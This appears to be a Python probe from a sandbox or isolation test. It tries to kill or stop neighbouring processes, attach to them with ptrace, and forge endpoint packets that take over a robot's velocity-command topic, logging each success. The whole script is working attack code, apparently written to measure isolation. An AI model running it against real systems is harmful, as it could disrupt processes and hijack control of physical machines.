"""Goes for the program beside it: its process, its link, its endpoints, its name; then drives."""

import json
import struct

from tools import achieved, call, command_line, drive, libc, processes

ATTACH = 16
for pid in set(processes()) - {1}:  # the first of its own namespace
    for number in (9, 19):
        if libc.kill(pid, number) == 0:
            achieved("signals", command_line(pid))
    if call(101, ATTACH, pid, 0, 0)[0] == 0:
        achieved("traces", command_line(pid))
# as the first, whose endpoints have these numbers: takes them away, and has its own under them
FIRST = 1 << 20
forged = [["/waits", "topic /mine", "geometry_msgs/msg/Twist", False, FIRST + 1, 1, 10]]
packets = [
    b"T" + json.dumps([forged, []]).encode(),
    b"T" + json.dumps([[], [FIRST + n for n in range(60)]]).encode(),
]
packets.append(struct.pack("<cQIQQ?", b"A", 0, 0, 1 << 40, 1 << 40, True))
for fd in range(3, 64):
    for packet in packets:
        libc.send(fd, packet, len(packet), 0x4040)
drive()
